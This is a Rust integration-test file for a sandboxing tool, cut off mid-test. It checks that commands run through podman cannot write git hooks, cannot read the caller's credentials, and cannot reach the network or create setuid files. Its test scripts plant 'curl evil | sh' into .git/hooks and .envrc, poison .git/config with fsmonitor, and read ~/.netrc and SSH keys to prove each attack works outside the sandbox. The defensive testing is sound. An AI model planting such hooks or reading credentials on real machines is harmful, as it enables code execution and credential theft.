//! `keepout run --image`: the same policy inside a podman image (issue 16), with the local test
//! image `.ci/test-image.sh` makes without a registry (Debian 12 minbase with python3, pytest
//! and git). As root the container is rootful podman's; as the plain user rootless podman's, the
//! image imported from the cached root filesystem into that user's own storage on first use.
//! Every test skips with a note when podman or the image is missing (`.ci/run` makes both).

use std::path::PathBuf;
use std::sync::Mutex;
use std::time::Duration;

use super::harness::*;

const IMAGE: &str = "localhost/keepout-test:bookworm";

/// The cached root filesystem `.ci/test-image.sh` keeps (named by this machine's certificate
/// bundle, which it holds: the script says where).
fn tarball() -> PathBuf {
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../../.ci/test-image.sh");
    let out = std::process::Command::new("bash")
        .args([script, "--print"])
        .output()
        .expect("bash runs .ci/test-image.sh --print");
    PathBuf::from(String::from_utf8_lossy(&out.stdout).trim())
}

/// The fixture's environment plus what the runner's podman needs to find its own storage (a
/// rootless user's is under the real home, and the fixture's HOME is a fake one): `None`, with
/// a note, when podman or the image is not there.
fn engine_env(fx: &Fixture) -> Option<Vec<(String, String)>> {
    static IMPORT: Mutex<()> = Mutex::new(());
    let r = &fx.runner;
    if !have("podman") {
        note("podman is not installed: the --image tests did not run (apt-get install podman runc uidmap)");
        return None;
    }
    let mut env = fx.env().to_vec();
    if !r.is_root() {
        let data = r.real_home().join(".local/share");
        env.push(("XDG_DATA_HOME".into(), data.display().to_string()));
    }
    let podman = |args: &[&str]| {
        let mut argv = vec!["podman".to_string()];
        argv.extend(args.iter().map(|a| a.to_string()));
        run(
            r.command(&argv, &env, &fx.project),
            format!("[{r}] podman {}", args.join(" ")),
        )
    };
    let _one_at_a_time = IMPORT.lock().unwrap_or_else(|e| e.into_inner());
    if podman(&["image", "exists", IMAGE]).success() {
        return Some(env);
    }
    let tar = tarball();
    if !r.is_root() && tar.exists() {
        let out = podman(&["import", "--quiet", &tar.display().to_string(), IMAGE]);
        if out.success() {
            return Some(env);
        }
        note(&format!(
            "[{r}] podman import of {} failed: the --image tests did not run:{out}",
            tar.display()
        ));
        return None;
    }
    note(&format!(
        "[{r}] the image {IMAGE} is missing: the --image tests did not run (.ci/test-image.sh makes it)"
    ));
    None
}

/// `podman ps <flags> --no-trunc --format FORMAT` as the runner: the containers it lists.
fn containers(fx: &Fixture, env: &[(String, String)], flags: &[&str], format: &str) -> String {
    let mut argv = vec!["podman".to_string(), "ps".into()];
    argv.extend(flags.iter().map(|f| f.to_string()));
    argv.extend(["--no-trunc", "--format", format].map(String::from));
    let what = format!("[{}] podman ps", fx.runner);
    run(fx.runner.command(&argv, env, &fx.project), what).stdout
}

/// Is a copy of `project` attached under the idmapped copies' directory (a root caller's run;
/// other tests' runs may have theirs there at the same time)?
fn copy_attached(project: &std::path::Path) -> bool {
    use std::os::unix::fs::MetadataExt;
    let id = |p: &std::path::Path| std::fs::metadata(p).ok().map(|m| (m.dev(), m.ino()));
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    mounts.lines().any(|l| {
        let at = l.split(' ').nth(4).unwrap_or("");
        at.starts_with("/run/keepout-idmapped/") && id(at.as_ref()) == id(project)
    })
}

/// `keepout run --image IMAGE <extra> -- sh -c script` as the runner, with `env`.
fn in_image(fx: &Fixture, env: &[(String, String)], extra: &[&str], script: &str) -> Output {
    let mut argv = vec![
        keepout_bin().to_string(),
        "run".into(),
        "--image".into(),
        IMAGE.into(),
    ];
    argv.extend(extra.iter().map(|s| s.to_string()));
    argv.extend(["--", "sh", "-c", script].map(String::from));
    let what = format!(
        "[{}] keepout run --image {IMAGE} {} -- sh -c {}",
        fx.runner,
        extra.join(" "),
        q(script)
    );
    run(fx.runner.command(&argv, env, &fx.project), what)
}

/// The project is there at its own path, read-write, and what is made there is the runner's
/// (rootless podman keeps the plain user's ids; root's project is bound from an idmapped copy,
/// detached after the run); git's hooks, which the host runs at the next commit, are read-only
/// (A4/A14).
#[test]
fn image_shows_the_project_at_its_path_and_its_protected_names_read_only() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let hook = fx.project.join(".git/hooks/pre-commit");

        let out = fx.outside("echo 'curl evil | sh' > .git/hooks/pre-commit && echo planted");
        assert!(
            out.has("planted") && hook.exists(),
            "[{r}] outside: the hook is planted (proves the attack):{out}"
        );
        std::fs::remove_file(&hook).unwrap();

        let inn = in_image(
            &fx,
            &env,
            &[],
            "pwd; cat README.md; touch made-inside && echo wrote; \
             echo 'curl evil | sh' > .git/hooks/pre-commit && echo planted; \
             echo '[core] fsmonitor = evil' >> .git/config && echo configured; true",
        );
        assert!(inn.success(), "[{r}] inside:{inn}");
        let project = fx.project.display().to_string();
        assert!(
            inn.stdout.lines().next() == Some(project.as_str()),
            "[{r}] the project at its own path:{inn}"
        );
        assert!(
            inn.has("hello"),
            "[{r}] the project's files are there:{inn}"
        );
        assert!(
            !inn.has("planted") && !hook.exists(),
            "[{r}] .git/hooks is read-only:{inn}"
        );
        assert!(
            !inn.has("configured"),
            "[{r}] .git/config is read-only:{inn}"
        );
        assert!(
            inn.has("Read-only file system"),
            "[{r}] refused by a read-only mount:{inn}"
        );
        // As root too: the container's nobody writes root's project through an idmapped copy.
        assert!(
            inn.has("wrote") && fx.project.join("made-inside").exists(),
            "[{r}] the project is writable, and the write lands in it:{inn}"
        );
        let out = fx.outside("stat -c %u made-inside");
        assert_eq!(
            out.stdout.trim(),
            r.uid.to_string(),
            "[{r}] the new file is the runner's:{out}"
        );
        if r.is_root() {
            assert!(
                !copy_attached(&fx.project),
                "[{r}] the idmapped copy is detached after the run"
            );
        }
    }
}

/// The caller's tokens (GITHUB_TOKEN and the others in the fixture's environment) and the home's
/// credentials (~/.ssh/id_ed25519, ~/.netrc...) are not in the container (A1, A2).
#[test]
fn image_holds_none_of_the_callers_environment_or_home_credentials() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let key = fx.home_path(".ssh/id_ed25519");

        let script = format!("env; cat {} ~/.netrc; ls -A ~; echo listed", q(&key));
        let out = fx.outside(&script);
        assert!(
            out.has(&fx.secret("GITHUB_TOKEN")) && out.has(&fx.credential(".ssh/id_ed25519")),
            "[{r}] outside: the token and the key are readable (proves the attack):{out}"
        );

        let inn = in_image(&fx, &env, &[], &script);
        assert!(inn.has("listed"), "[{r}] the script ran:{inn}");
        for (name, value) in fx.secrets() {
            assert!(
                !inn.has(&value),
                "[{r}] inside: the value of {name} leaked:{inn}"
            );
        }
        for (rel, marker) in fx.credentials() {
            assert!(!inn.has(marker), "[{r}] inside: ~/{rel} leaked:{inn}");
        }
        let vars = env_lines(&inn.stdout);
        let get = |k: &str| vars.iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
        assert_eq!(
            get("HOME"),
            Some(fx.home.display().to_string()),
            "[{r}] HOME at the same path:{inn}"
        );
        assert_eq!(
            get("KEEPOUT_SANDBOX").as_deref(),
            Some("1"),
            "[{r}] the policy's variables:{inn}"
        );
        assert!(
            get("XDG_DATA_HOME").is_none(),
            "[{r}] nothing the engine was given:{inn}"
        );
        let listing: Vec<&str> = inn.stdout.lines().skip_while(|l| l.contains('=')).collect();
        assert_eq!(listing, ["listed"], "[{r}] the home is empty:{inn}");
    }
}

/// The command's exit status is keepout's; a signal's death is 128+N; what it cannot do as a
/// user without privilege it cannot do (no capabilities, no new privileges, no network).
#[test]
fn image_exit_status_is_the_commands_and_it_runs_unprivileged() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let inn = in_image(&fx, &env, &[], "exit 7");
        assert_eq!(inn.code, Some(7), "[{r}] exit 7:{inn}");
        let inn = in_image(&fx, &env, &[], "kill -TERM $$");
        assert_eq!(inn.code, Some(143), "[{r}] killed by TERM: 128+15:{inn}");
        let inn = in_image(
            &fx,
            &env,
            &[],
            "id -u; grep -E '^(CapEff|NoNewPrivs)' /proc/self/status; echo \"sys=$(ls -A /sys | wc -l)\"; \
             python3 -c 'import socket; socket.create_connection((\"1.1.1.1\", 80), 3)' 2>&1 | tail -1",
        );
        assert!(inn.success(), "[{r}] inside:{inn}");
        assert_ne!(
            inn.stdout.lines().next(),
            Some("0"),
            "[{r}] not root inside:{inn}"
        );
        assert!(
            inn.has("CapEff:\t0000000000000000"),
            "[{r}] no capabilities:{inn}"
        );
        assert!(inn.has("NoNewPrivs:\t1"), "[{r}] no new privileges:{inn}");
        assert!(inn.has("sys=0\n"), "[{r}] no /sys (as natively):{inn}");
        assert!(
            inn.has("Network is unreachable") || inn.has("OSError"),
            "[{r}] no network:{inn}"
        );
    }
}

/// pytest, from the image, runs the project's tests in the project.
#[test]
fn image_runs_pytest_in_the_project() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        fx.script("test_sum.py", "def test_sum():\n    assert 1 + 1 == 2\n");
        let inn = in_image(
            &fx,
            &env,
            &[],
            "python3 -m pytest -q -p no:cacheprovider test_sum.py",
        );
        assert!(
            inn.success() && inn.has("1 passed"),
            "[{r}] pytest passes:{inn}"
        );
    }
}

/// `--print-policy` prints the exact engine command line and runs nothing.
#[test]
fn image_print_policy_shows_the_engine_command_line() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let marker = fx.marker("print");
        let inn = in_image(&fx, &env, &["--print-policy"], &format!("echo {marker}"));
        assert!(inn.success(), "[{r}] --print-policy:{inn}");
        let line = inn.stdout.trim();
        let project = fx.project.display().to_string();
        for want in [
            "podman ",
            " run --rm ",
            "--pull never",
            "--cap-drop ALL",
            "--security-opt no-new-privileges",
            "--read-only",
            "--network none",
            // Root's project from its idmapped copy (said below the command line).
            &match r.is_root() {
                true => format!(":{project}:rw"),
                false => format!("--volume {project}:{project}:rw"),
            },
            &format!("--volume {project}/.git/hooks:{project}/.git/hooks:ro"),
            &format!("--workdir {project} {IMAGE} sh -c"),
        ] {
            assert!(
                line.contains(want),
                "[{r}] the command line has {want:?}:{inn}"
            );
        }
        if !r.is_root() {
            assert!(
                line.contains("--userns keep-id"),
                "[{r}] rootless: keep-id:{inn}"
            );
        } else {
            assert!(
                line.contains(&format!("{project} attached there first, idmapped")),
                "[{r}] root: where the project's copy is attached is said:{inn}"
            );
        }
        assert!(
            !inn.has(&fx.secret("GITHUB_TOKEN")),
            "[{r}] no token in it:{inn}"
        );
        let commands = line.lines().filter(|l| !l.starts_with('#')).count();
        assert_eq!(commands, 1, "[{r}] one command line (and comments):{inn}");
    }
}

/// keepout never pulls: a missing image is an error that says what to do.
#[test]
fn image_missing_is_an_error_that_says_what_to_do() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(mut env) = engine_env(&fx) else {
            return;
        };
        env.retain(|(k, _)| k != "GITHUB_TOKEN");
        let argv: Vec<String> = [
            keepout_bin(),
            "run",
            "--image",
            "localhost/keepout-absent:none",
            "--",
            "true",
        ]
        .map(String::from)
        .to_vec();
        let out = run(
            fx.runner.command(&argv, &env, &fx.project),
            format!("[{r}] missing image"),
        );
        assert_eq!(out.code, Some(125), "[{r}] keepout's own failure:{out}");
        assert!(
            out.stderr.contains("never pulls") && out.stderr.contains("hint: pull or build it"),
            "[{r}]:{out}"
        );
    }
}

/// The container dies with keepout: killed with SIGKILL (no handler runs), its container is
/// removed all the same (A6), and a root caller's idmapped copy of the project detached.
#[test]
fn image_container_does_not_outlive_keepout() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let marker = fx.marker("outlive");
        let mut argv = vec![
            keepout_bin().to_string(),
            "run".into(),
            "--image".into(),
            IMAGE.into(),
        ];
        argv.extend(["--", "sh", "-c", &format!("sleep 300; : {marker}")].map(String::from));
        let mut cmd = fx.runner.command(&argv, &env, &fx.project);
        cmd.stdin(std::process::Stdio::null());
        let running = Running::spawn(cmd, format!("[{r}] keepout run --image -- sleep"));
        let ps = || containers(&fx, &env, &["--all"], "{{.Names}} {{.Command}}");
        let up = poll(Duration::from_secs(40), || ps().contains(&marker));
        assert!(up, "[{r}] the container runs: {}", ps());
        assert!(signal(running.pid(), "KILL"), "[{r}] SIGKILL keepout");
        let out = running.wait();
        assert_eq!(out.signal, Some(9), "[{r}] keepout died of SIGKILL:{out}");
        let gone = poll(Duration::from_secs(30), || !ps().contains(&marker));
        assert!(
            gone,
            "[{r}] the container is removed after keepout died: {}",
            ps()
        );
        if r.is_root() {
            assert!(
                poll(Duration::from_secs(10), || !copy_attached(&fx.project)),
                "[{r}] the project's idmapped copy is detached by the watcher"
            );
        }
    }
}

/// What the run leaves in the project that the host would run later (a new `.envrc`, which
/// direnv runs at the next `cd`) is moved aside after the run, as natively (A4, A15): the same
/// after-run check.
#[test]
fn image_what_the_run_leaves_for_the_host_is_moved_aside() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let envrc = fx.project.join(".envrc");

        let out = fx.outside("echo 'curl evil | sh' > .envrc && echo planted");
        assert!(
            out.has("planted") && envrc.exists(),
            "[{r}] outside: .envrc is planted (proves the attack):{out}"
        );
        std::fs::remove_file(&envrc).unwrap();

        let inn = in_image(
            &fx,
            &env,
            &[],
            "echo 'curl evil | sh' > .envrc && echo planted; true",
        );
        assert!(inn.success(), "[{r}] inside:{inn}");
        assert!(
            !envrc.exists(),
            "[{r}] no .envrc under its name after the run:{inn}"
        );
        assert!(inn.has("planted"), "[{r}] the run wrote it:{inn}");
        let aside = std::fs::read_dir(&fx.project)
            .unwrap()
            .filter_map(|e| e.ok())
            .any(|e| {
                e.file_name()
                    .to_string_lossy()
                    .starts_with(".envrc.keepout-quarantine-")
            });
        assert!(
            aside && inn.stderr.contains(".envrc"),
            "[{r}] moved aside, and said:{inn}"
        );
    }
}

/// keepout's seccomp deny list is added to the engine's profile: no new user namespace (from
/// which a mount or a kernel bug is a step away, A7) and no kernel keyring (A8), as natively;
/// threads and processes still start.
#[test]
fn image_gets_keepouts_seccomp_deny_list_on_top_of_the_engines() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let script = "unshare -U true && echo new-userns; \
             python3 -c 'import ctypes; print(\"keyctl\", ctypes.CDLL(None).syscall(250, 0, 0, 0, 0, 0))'; \
             python3 -c 'import threading, subprocess; t = threading.Thread(target=print); t.start(); t.join(); \
             print(\"spawned\", subprocess.run([\"true\"]).returncode)'";
        let out = fx.outside(script);
        assert!(
            out.has("new-userns"),
            "[{r}] outside: a new user namespace (proves the attack):{out}"
        );
        let inn = in_image(&fx, &env, &[], script);
        assert!(
            !inn.has("new-userns"),
            "[{r}] inside: no new user namespace:{inn}"
        );
        assert!(inn.has("keyctl -1"), "[{r}] inside: keyctl refused:{inn}");
        assert!(
            inn.has("spawned 0"),
            "[{r}] inside: threads and processes work:{inn}"
        );
    }
}

/// A7 in the project, as natively: no setuid or setgid file can be made there (by chmod, or by
/// open or mknod with such a mode). The project is the host's: a setuid copy of a program left
/// in it would give any local account the owner's identity. Outside, the same script makes
/// both (proves the attack); inside, both fail with EPERM and ordinary modes still work.
#[test]
fn image_refuses_setuid_and_setgid_files_in_the_project() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let script = "cp /bin/true ./suid && chmod 4755 ./suid; echo chmod=$?; \
             python3 -c 'import os; os.close(os.open(\"sgid\", os.O_CREAT | os.O_WRONLY, 0o2755))' \
             2>/dev/null; echo open=$?; echo plain > plain.txt && chmod 600 plain.txt; echo plain=$?; \
             find . -perm /6000 -type f -name \"*id\" | sort";
        let out = fx.outside(script);
        assert!(
            out.has("chmod=0") && out.has("open=0") && out.has("./suid") && out.has("./sgid"),
            "[{r}] outside: both set-id files are made (proves the attack):{out}"
        );
        for f in ["suid", "sgid", "plain.txt"] {
            let _ = std::fs::remove_file(fx.project.join(f));
        }
        let inn = in_image(&fx, &env, &[], script);
        assert!(
            inn.has("chmod=1")
                && inn.has("open=1")
                && inn.stderr.contains("Operation not permitted"),
            "[{r}] inside: both refused with EPERM:{inn}"
        );
        assert!(
            inn.has("plain=0"),
            "[{r}] inside: ordinary modes work:{inn}"
        );
        let listed = |f: &str| inn.stdout.lines().any(|l| l == f);
        assert!(
            !listed("./suid") && !listed("./sgid"),
            "[{r}] inside: no set-id file in the project:{inn}"
        );
    }
}

/// Host processes (A6), the host's abstract unix sockets and loopback services (A3, A9) and the
/// caller's open descriptors (A10) are out of the container's reach, as natively.
#[test]
fn image_host_processes_sockets_and_descriptors_are_out_of_reach() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let decoy = fx.background(&["/bin/sleep", "300"]);
        let abstract_name = format!("keepout-image-{}", fx.rand);
        fx.serve("abstract", &abstract_name);
        let port = fx.serve("tcp", "127.0.0.1");
        let netrc = fx.home_path(".netrc");
        let secret = fx.credential(".netrc");
        let script = format!(
            "kill -0 {decoy} 2>/dev/null; echo \"kill=$?\"; \
             {}; {}; cat <&5; echo \"fd5=$?\"",
            fx.connect_script("abstract", &abstract_name),
            fx.connect_script("tcp", port.trim()),
        );
        let open = format!("exec 5<{}", q(&netrc));

        let out = fx.outside(&format!("{open}; {script}"));
        assert!(
            out.has("kill=0") && out.stdout.matches("CONNECTED").count() == 2 && out.has(&secret),
            "[{r}] outside: the process, both servers and the descriptor are reachable (proves the attack):{out}"
        );

        let argv: Vec<String> = [
            "/bin/sh".to_string(),
            "-c".into(),
            format!(
                "{open}; {} run --image {IMAGE} -- sh -c {}",
                keepout_bin(),
                q(&script)
            ),
        ]
        .to_vec();
        let inn = run(
            fx.runner.command(&argv, &env, &fx.project),
            format!("[{r}] inside: {script}"),
        );
        assert!(inn.has("kill="), "[{r}] the script ran:{inn}");
        assert!(
            !inn.has("kill=0"),
            "[{r}] inside: the host process is not there:{inn}"
        );
        assert!(
            !inn.has("CONNECTED"),
            "[{r}] inside: neither server is reachable:{inn}"
        );
        assert_eq!(
            inn.stdout.matches("BLOCKED").count(),
            2,
            "[{r}] both refused:{inn}"
        );
        assert!(
            !inn.has(&secret) && !inn.has("fd5=0"),
            "[{r}] inside: fd 5 is not inherited:{inn}"
        );
    }
}

/// A remote engine, through the engine's own setting (CONTAINER_HOST), keepout adding nothing:
/// a `podman system service` on a unix socket runs the same policy, and the container is gone
/// after the run.
#[test]
fn image_runs_on_a_remote_engine_through_container_host() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(mut env) = engine_env(&fx) else {
            return;
        };
        let sock = fx.root.join("podman.sock");
        let url = format!("unix://{}", sock.display());
        let argv: Vec<String> = ["podman", "system", "service", "--time", "0", &url]
            .map(String::from)
            .to_vec();
        let _service = Running::spawn(
            fx.runner.command(&argv, &env, &fx.project),
            format!("[{r}] podman system service"),
        );
        assert!(
            poll(Duration::from_secs(20), || sock.exists()),
            "[{r}] the service's socket"
        );
        env.push(("CONTAINER_HOST".into(), url.clone()));
        // The remote client sends the caller's registry credentials with each request (for the
        // service's pulls), and the fixture's fake ~/.docker/config.json is not base64: the
        // engine's own business, not the container's; give it an empty one.
        let docker_config = fx.mkdir("docker-config");
        write_file(&docker_config.join("config.json"), "{}\n", 0o644);
        env.push(("DOCKER_CONFIG".into(), docker_config.display().to_string()));
        let doctor = {
            let argv: Vec<String> = [keepout_bin(), "doctor"].map(String::from).to_vec();
            run(
                fx.runner.command(&argv, &env, &fx.project),
                format!("[{r}] doctor"),
            )
        };
        assert!(
            doctor.has(", remote,"),
            "[{r}] doctor: the engine is remote:{doctor}"
        );
        let marker = fx.marker("remote");
        let inn = in_image(
            &fx,
            &env,
            &[],
            &format!(": {marker}; pwd; echo x > .git/hooks/pre-commit || echo refused; exit 5"),
        );
        assert_eq!(inn.code, Some(5), "[{r}] the command's exit status:{inn}");
        assert!(
            inn.has(&fx.project.display().to_string()) && inn.has("refused"),
            "[{r}] the project at its path, its hooks read-only:{inn}"
        );
        let ps = || containers(&fx, &env, &["--all"], "{{.Command}}");
        assert!(
            poll(Duration::from_secs(20), || !ps().contains(&marker)),
            "[{r}] the container is gone: {}",
            ps()
        );
    }
}

/// A host service's unix socket in the project (a dev database's) is masked in the container,
/// as natively (A20): the policy's mask, translated.
#[test]
fn image_masks_host_sockets_in_the_project() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        fx.mkdir("project/run");
        let sock = fx.project.join("run/db.sock");
        let addr = fx.serve("unix", &sock.display().to_string());
        let connect = fx.connect_script("unix", addr.trim());

        let out = fx.outside(&connect);
        assert!(
            out.has("CONNECTED"),
            "[{r}] outside: the socket answers (proves the attack):{out}"
        );

        let inn = in_image(&fx, &env, &[], &connect);
        assert!(
            inn.has("BLOCKED") && !inn.has("CONNECTED"),
            "[{r}] inside: the socket is masked:{inn}"
        );
    }
}

/// A SIGTERM to keepout reaches the command in the container (which may clean up, and whose
/// exit status is keepout's), and the container is gone afterwards.
#[test]
fn image_relays_signals_to_the_command() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let marker = fx.marker("term");
        let mut argv = vec![
            keepout_bin().to_string(),
            "run".into(),
            "--image".into(),
            IMAGE.into(),
        ];
        let script =
            format!("trap 'echo got-term; exit 3' TERM; echo ready; : {marker}; sleep 300 & wait");
        argv.extend(["--", "sh", "-c", &script].map(String::from));
        let running = Running::spawn(
            fx.runner.command(&argv, &env, &fx.project),
            format!("[{r}] keepout run --image -- trap TERM"),
        );
        let running_containers = || containers(&fx, &env, &[], "{{.Command}}");
        assert!(
            poll(Duration::from_secs(40), || running_containers()
                .contains(&marker)),
            "[{r}] the command runs"
        );
        std::thread::sleep(Duration::from_millis(500));
        assert!(signal(running.pid(), "TERM"), "[{r}] SIGTERM keepout");
        let out = running.wait();
        assert_eq!(
            out.code,
            Some(3),
            "[{r}] the command's own exit status after its trap:{out}"
        );
        assert!(out.has("got-term"), "[{r}] the command got the TERM:{out}");
    }
}

/// What `--image` does not do yet is refused with a message that says so, before anything runs.
#[test]
fn image_refuses_what_it_does_not_do_yet() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let (flags, what) = (
            &["--mode", "landlock"][..],
            "--image with --mode landlock is not supported yet",
        );
        let out = in_image(&fx, &env, flags, "echo ran");
        assert_eq!(out.code, Some(125), "[{r}] {flags:?}:{out}");
        assert!(
            out.stderr.contains(what) && !out.has("ran"),
            "[{r}] {flags:?}: says {what:?}:{out}"
        );
    }
}

/// After net.rs's urllib fetches ([`super::net::FETCH_PY`]): whether a direct connection past
/// any proxy gets anywhere.
const DIRECT_PY: &str = r#"
import socket
try:
    socket.create_connection(("151.101.0.223", 443), timeout=5)
    print("DIRECT-REACHED")
except OSError as e:
    print("DIRECT-REFUSED", e)
"#;

/// `--image IMAGE --net pypi` (A9): the container reaches PyPI through keepout's proxy only
/// (urllib and the real pip), crates.io is refused and reported on one line and in the JSON
/// `--report`, and a direct connection past the proxy goes nowhere. Outside keepout the same
/// script reaches both registries and connects directly (proves the attack).
#[test]
fn image_net_names_reach_only_the_allowlist_through_keepouts_proxy() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let fetch = fx.project.join("fetch.py");
        std::fs::write(&fetch, format!("{}{DIRECT_PY}", super::net::FETCH_PY)).unwrap();
        fx.give_to_runner(&fetch);
        let urls = "https://pypi.org/simple/six/ https://index.crates.io/config.json";
        let out = fx.outside(&format!("python3 fetch.py {urls}"));
        if !out.stdout.contains("REACHED https://pypi.org") {
            note(&format!(
                "[{r}] this machine does not reach PyPI; --image --net not checked:{out}"
            ));
            return;
        }
        assert!(
            out.stdout.contains("REACHED https://index.crates.io"),
            "[{r}] outside reaches crates.io:{out}"
        );

        let report = fx.root.join("report.json");
        let report_s = report.display().to_string();
        fx.give_to_runner(&fx.root);
        let inn = in_image(
            &fx,
            &env,
            &["--net", "pypi", "--report", &report_s],
            &format!(
                "python3 fetch.py {urls}; \
                 python3 -m pip download --no-deps --no-cache-dir -d /tmp/d six >/dev/null 2>&1 \
                 && echo PIP-DOWNLOADED; exit 4"
            ),
        );
        assert_eq!(inn.code, Some(4), "[{r}] the command's exit status:{inn}");
        assert!(
            inn.has("REACHED https://pypi.org") && inn.has("PIP-DOWNLOADED"),
            "[{r}] PyPI through the proxy (urllib and pip):{inn}"
        );
        assert!(
            inn.has("REFUSED https://index.crates.io")
                && !inn.has("REACHED https://index.crates.io"),
            "[{r}] crates.io refused:{inn}"
        );
        assert!(
            inn.has("DIRECT-REFUSED") && !inn.has("DIRECT-REACHED"),
            "[{r}] no way past the proxy:{inn}"
        );
        assert!(
            inn.stderr.contains("refused") && inn.stderr.contains("index.crates.io"),
            "[{r}] the refusal is said:{inn}"
        );
        let json = std::fs::read_to_string(&report).unwrap();
        assert!(
            json.contains("\"destination\": \"index.crates.io:443\""),
            "[{r}] the report names the refusal: {json}"
        );
    }
}

/// `--image IMAGE --review`: the container's writes (a change, a deletion, a new file, a
/// directory replaced) go to the review, not the project; `keepout review` lists them,
/// `apply` puts them in, a second run's `discard` drops its review whole (rootless podman's
/// overlay leaves a scratch directory only its user namespace may remove: removed too).
#[test]
fn image_review_holds_the_changes_until_apply() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let changes = "echo changed > README.md; rm -f keep.txt; echo new > added.txt; \
                       rm -rf dir; mkdir dir && echo y > dir/y; true";
        let setup = fx.outside("echo keep > keep.txt && mkdir -p dir && echo x > dir/x");
        assert!(setup.success(), "[{r}] setup:{setup}");
        let before = fx.outside("cat README.md keep.txt dir/x");
        let inn = in_image(&fx, &env, &["--review"], changes);
        assert!(inn.success(), "[{r}] run --review:{inn}");
        assert_eq!(
            fx.outside("cat README.md keep.txt dir/x").stdout,
            before.stdout,
            "[{r}] nothing was written to the project:{inn}"
        );
        assert!(!fx.project.join("added.txt").exists(), "[{r}] no new file");
        let listed = keepout_with(&fx, &["review", "--json"], &env);
        let list: serde_json::Value = serde_json::from_str(&listed.stdout).unwrap();
        let has = |path: &str, kind: &str| {
            list.as_array()
                .unwrap()
                .iter()
                .any(|c| c["path"] == path && c["kind"] == kind)
        };
        for (path, kind) in [
            ("README.md", "modified"),
            ("keep.txt", "deleted"),
            ("added.txt", "added"),
            ("dir/x", "deleted"),
            ("dir/y", "added"),
        ] {
            assert!(has(path, kind), "[{r}] {path} {kind} in {list}");
        }
        let apply = keepout_with(&fx, &["review", "apply"], &env);
        assert!(apply.success(), "[{r}] apply:{apply}");
        let after = fx.outside(
            "cat README.md added.txt dir/y; test ! -e keep.txt && test ! -e dir/x && echo gone",
        );
        assert_eq!(
            after.stdout, "changed\nnew\ny\ngone\n",
            "[{r}] applied:{after}"
        );

        let again = in_image(&fx, &env, &["--review"], "echo again > README.md");
        assert!(again.success(), "[{r}] second run:{again}");
        let discard = keepout_with(&fx, &["review", "discard"], &env);
        assert!(discard.success(), "[{r}] discard:{discard}");
        let listed = keepout_with(&fx, &["review", "list"], &env);
        assert!(
            listed.has("no reviews kept"),
            "[{r}] the review is gone whole:{listed}"
        );
        assert_eq!(
            fx.outside("cat README.md").stdout,
            "changed\n",
            "[{r}] discarded"
        );
    }
}

/// `keepout ARGS` as the runner, with the environment the image runs had (the review store is
/// found from it).
fn keepout_with(fx: &Fixture, args: &[&str], env: &[(String, String)]) -> Output {
    let mut argv = vec![keepout_bin().to_string()];
    argv.extend(args.iter().map(|a| a.to_string()));
    let what = format!("[{}] keepout {}", fx.runner, args.join(" "));
    run(fx.runner.command(&argv, env, &fx.project), what)
}

/// `--image IMAGE --decoys`: the fake credentials are in the container's home (as root too: the
/// planted home is given to the container's user), their reads are said after the run and in
/// `--report`, and no real credential of the caller's is there.
#[test]
fn image_decoys_are_read_and_reported() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(env) = engine_env(&fx) else { return };
        let report = fx.root.join("decoys.json");
        let report_s = report.display().to_string();
        fx.give_to_runner(&fx.root);
        let inn = in_image(
            &fx,
            &env,
            &["--decoys", "--report", &report_s],
            "cat ~/.netrc ~/.ssh/id_ed25519 >/dev/null && echo read-them",
        );
        assert!(
            inn.success() && inn.has("read-them"),
            "[{r}] the decoys are there:{inn}"
        );
        assert!(
            inn.stderr.contains("decoys read") && inn.stderr.contains("~/.netrc"),
            "[{r}] the reads are said:{inn}"
        );
        let json: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        assert!(
            json["decoys_read"].as_array().is_some_and(|a| a.len() >= 2),
            "[{r}] the reads are in the report: {json}"
        );
        for (_, value) in fx.secrets() {
            assert!(
                !inn.stdout.contains(&value),
                "[{r}] no real secret inside:{inn}"
            );
        }
    }
}

/// `keepout try --image` and `shell --image`: the clone is made natively (by the host's git, in
/// the native sandbox), and the command runs in the image with the workspace's home at its
/// path: writable (as root too: a root caller's workspace belongs to the container's user),
/// kept for the next `shell`, without the caller's credentials. On a layer (after a snapshot) the
/// writes go to the workspace's own upper directory and the layer stays as it was; a workspace
/// on two layers is refused, before anything runs, with what to do.
#[test]
fn image_try_and_shell_run_the_workspace_in_the_image() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let Some(mut env) = engine_env(&fx) else {
            return;
        };
        let store = fx.home.join(".local/share/keepout");
        env.push(("KEEPOUT_DATA_HOME".into(), store.display().to_string()));
        let repo = super::workspaces::bare_repo(&fx);
        // The host has bubblewrap, the test image does not: the command's system is the image's.
        let script = "test ! -e /usr/bin/bwrap && echo in-image; pwd; cat README.md; \
                      echo kept > ~/left-here && echo wrote-home; \
